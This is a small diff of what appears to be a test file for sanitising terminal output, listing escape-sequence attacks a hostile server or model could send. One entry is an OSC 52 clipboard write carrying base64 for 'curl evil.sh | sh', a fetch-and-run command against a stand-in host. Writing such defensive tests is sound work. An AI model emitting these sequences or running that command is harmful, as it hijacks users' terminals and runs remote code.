@@ -15,7 +15,7 @@ const CONTROL = /(?![\n\t])[\p{Cc}\u202e]/u;
 const BEL = "\u0007";
 const ENV = { OPENAI_API_KEY: "sk-terminal-text-secret-0123456789" };
 
-// The attacks of issue 20, each as the bytes a hostile server or model would send.
+// The attacks, each as the bytes a hostile server or model would send.
 const ATTACKS = {
   "OSC 52 (writes the clipboard)": `${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${BEL}`,
   "OSC 0 (sets the window title)": `${ESC}]0;you have been pwned${BEL}`,
